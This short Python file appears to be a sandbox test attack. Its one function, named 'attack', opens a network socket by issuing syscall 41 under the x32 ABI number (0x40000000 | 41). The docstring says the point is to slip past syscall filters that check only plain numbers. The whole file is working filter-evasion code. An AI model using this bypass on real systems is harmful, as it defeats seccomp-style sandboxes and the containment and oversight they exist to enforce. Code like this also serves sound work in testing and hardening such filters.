"""Makes a system call by its x32 number, which filters that look at plain numbers let through."""
import ctypes


def attack(clues):
    return [str(ctypes.CDLL(None).syscall(0x40000000 | 41, 2, 1, 0))]
